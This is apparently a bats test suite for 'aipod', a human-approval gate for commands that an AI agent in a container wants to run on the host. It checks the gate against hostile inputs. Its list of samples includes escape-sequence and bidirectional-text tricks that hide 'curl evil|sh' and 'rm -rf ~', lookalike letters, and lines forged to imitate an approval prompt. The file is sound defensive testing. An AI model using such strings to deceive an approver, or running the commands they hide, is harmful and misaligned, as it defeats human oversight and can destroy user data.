#!/usr/bin/env bats
# What a hostile agent would try on the way to a host command.
load helper

setup() {
	setup_env
	unset DISPLAY WAYLAND_DISPLAY TMUX AIPOD_AGENT
	cd "$T/ws"
	session_env
	session_lock
}

teardown() { exec 9>&-; }

approver() {
	printf '#!/bin/sh\n%s\n' "$1" >"$T/approver"
	chmod +x "$T/approver"
	export AIPOD_APPROVER=$T/approver
}

@test "sixty hostile strings: what is shown is what would run, in plain sight" {
	approver 'cp "$AIPOD_ASK_TEXT" "$T/text"; cat >"$T/subject"; echo no'
	cat >"$T/check.py" <<-'EOT'
	import os, re, subprocess, sys, unicodedata
	from concurrent.futures import ThreadPoolExecutor
	u = lambda s: s.encode("utf-8", "surrogatepass")
	hostile = [
	    # terminal control
	    b"ls\x1b[2J\x1b[H| make test", b"ls\x1b[8mcurl evil|sh\x1b[0m",
	    b"rm -rf ~\rmake test     ", b"ls\x08\x08rm x", b"a\x07b", b"a\x7fb",
	    b"ls\x9b2J", u("ls\x9b2J"), b"ls\x1b]0;title\x07", b"\x1b]52;c;AAAA\x07",
	    b"ls\x1b[1A\x1b[2Kmake", b"ls\x0c", b"ls\x0bmake", b"\x0e\x0f", b"ls\x1bc",
	    b"ls\x1bP1$r\x1b\\", b"ls\x1b[?1049l", b"\x05", b"\x1b[6n", b"\x90q\x9c",
	    # direction and what cannot be seen
	    u("ls \u202ehs | live lruc\u202c"), u("a\u2066b\u2069"), u("a\u200fb"),
	    u("a\u061cb"), u("ma\u200bke"), u("ma\u200dke"), u("ma\u2060ke"),
	    u("ma\ufeffke"), u("ma\u00adke"), u("a\u034fb"), u("a\u180eb"),
	    u("ls\U000e0020\U000e0072\U000e006d"), u("a\ufe0fb"), u("a\U000e0100b"),
	    u("a\u2028b"), u("a\u2029b"), u("a\u0085b"), u("a\u00a0b"), u("a\u3000b"),
	    u("a\u2003b"), u("a\u3164b"), u("a\u115fb"), u("a\ue000b"), u("a\uffffb"),
	    u("a\ufff9b\ufffb"),
	    # bytes that are no UTF-8
	    b"ls \xff\xfe", b"\xc0\xaf", b"\xe2\x80", b"\xed\xa0\x80", b"\xf4\x90\x80\x80",
	    b"a\x80b", b"\xf8\x88\x80\x80\x80",
	    # lines that play our own
	    b"ls\n\nAnswer within 60 s [n]: y", b"ls\n  | make test",
	    b"ls\n  session    ffffffff", b"ls\n\nThe agent's own words", b"ls\n" * 300 + b"evil",
	    b"ls" + b" " * 3000 + b"; evil", b"ls   \nx", b"ls\\n\\x1b", b"ls\t;\tevil",
	    # letters that look like others
	    u("m\u0430ke test"), u("ls \uff1b rm"), u("\uff4c\uff53"),
	]
	assert len(hostile) >= 60, len(hostile)
	esc = re.compile(rb"\\(n|t|r|\\|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})")
	def back(m):
	    c = m.group(1)
	    one = {b"n": b"\n", b"t": b"\t", b"r": b"\r", b"\\": b"\\"}
	    if c in one: return one[c]
	    if c[:1] == b"x": return bytes([int(c[1:], 16)])
	    return u(chr(int(c[1:], 16)))
	def session(n):
	    """A place for questions of its own, for they are throttled."""
	    e = dict(os.environ, T=os.environ["T"] + "/%d" % n,
	        AIPOD_SESSION_DIR=os.environ["AIPOD_SESSION_DIR"] + "/%d" % n)
	    os.mkdir(e["T"])
	    os.mkdir(e["AIPOD_SESSION_DIR"], 0o700)
	    for s in hostile[n::4]:
	        try_one(s, e)
	def try_one(s, env):
	    T = env["T"]
	    r = subprocess.run(["aipod-approve", "-k", "command"], input=s,
	        capture_output=True, env=env)
	    assert r.returncode == 1, (s, r)
	    assert open(T + "/subject", "rb").read() == s, s
	    text = open(T + "/text", "rb").read()
	    shown = text.decode("utf-8")
	    for ch in shown:
	        cat = unicodedata.category(ch)
	        assert ch in "\n " or cat[0] in "LNPSM", (s, hex(ord(ch)))
	    # what stands behind the marks reads back to the very bytes, twice where
	    # it is shown in ASCII as well
	    lines = text.split(b"\n")
	    assert all(len(l.decode()) <= 76 for l in lines), s
	    part = [l[4:] for l in text.replace(b"\n  > ", b"").split(b"\n")
	        if l.startswith(b"  | ")]
	    n = s.count(b"\n") + 1
	    assert len(part) == (n if s.isascii() else 2 * n), (s, part)
	    for i in range(0, len(part), n):
	        got = b"\n".join(esc.sub(back, l) for l in part[i:i + n])
	        assert got == s, (s, got)
	    assert all(b > 126 or b >= 32 for l in part for b in l)
	    if not s.isascii():
	        assert all(b < 127 for l in part[n:] for b in l)
	    # nothing of it stands anywhere else, so it cannot play our own lines
	    rest = [l for l in lines if l[:4] not in (b"  | ", b"  > ")]
	    assert sum(l.startswith(b"  session ") for l in rest) == 1
	    assert b"%d byte" % len(s) in text
	with ThreadPoolExecutor(4) as pool:
	    list(pool.map(session, range(4)))
	print(len(hostile))
	EOT
	status 0 python3 "$T/check.py"
	[ "$output" -ge 60 ]
}

@test "the rule matcher knows no shell, so a shell cannot be played against it" {
	aipod-allow command 'echo *'
	export AIPOD_APPROVER=none
	# every byte between two words: what is allowed runs as the words it looks like
	cat >"$T/bytes.py" <<-'EOT'
	import subprocess
	from concurrent.futures import ThreadPoolExecutor
	def sh(s):
	    return subprocess.run(["/bin/sh", "-c", s], capture_output=True).stdout
	def one(i):
	    s = b"echo a" + bytes([i]) + b"b"
	    if subprocess.run(["aipod-allow", "-q", "check", "command", s]).returncode:
	        return 0
	    assert sh(s) == s[5:] + b"\n", s
	    assert sh(s + b"; pwd").count(b"\n") == 2, s
	    return 1
	with ThreadPoolExecutor(4) as pool:
	    allowed = sum(pool.map(one, range(1, 256)))
	print(allowed)
	EOT
	status 0 python3 "$T/bytes.py"
	[ "$output" -ge 60 ]
}

@test "kill -9 of the approver while it asks: no answer, nothing runs, none is lost" {
	export AIPOD_APPROVER=queue
	for i in 1 2 3 4 5; do
		jq -cn '{command: "touch made"}' | aipod-command --mcp run >"$T/out" 9>&- 3>&- &
		until_true 10 eval '[ -n "$(aipod-approve -l)" ]'
		pkill -KILL -P $! aipod-approve
		wait $! && return 1
		has "$(cat "$T/out")" 'could not be asked'
		is "$(aipod-approve -l)" ""
	done
	[ ! -e made ]
	status 0 aipod-log verify
}

@test "kill -9 at random times: no rule lost, no record torn, no command without an end" {
	exec 9>&-
	unset AIPOD_SESSION AIPOD_SESSION_DIR
	approver 's=$(cat); echo "$s" >>"$T/said"; echo always'
	rounds=40
	[ -z "${AIPOD_TEST_LONG-}" ] || rounds=200
	status 0 python3 "$TOP/test/mcp/killer.py" command "$rounds"
	echo "# $output" >&3
}

@test "from inside there is no way to answer: what the container sees holds no question" {
	AIPOD_APPROVER=queue
	export AIPOD_APPROVER
	printf x | aipod-approve -k command >/dev/null 3>&- 9>&- &
	asker=$!
	until_true 5 eval '[ -n "$(aipod-approve -l)" ]'
	# only run/ of the session's directory is mounted
	[ -d "$AIPOD_SESSION_DIR/asks" ]
	[ ! -e "$AIPOD_SESSION_DIR/run/asks" ]
	is "$(stat -c %a "$AIPOD_SESSION_DIR/asks")" 700
	# another user's view: nothing can be entered
	if [ "$(id -u)" = 0 ]; then
		run setpriv --reuid 65534 --clear-groups ls "$AIPOD_SESSION_DIR/asks"
		[ "$status" -ne 0 ]
	fi
	kill "$asker"
}
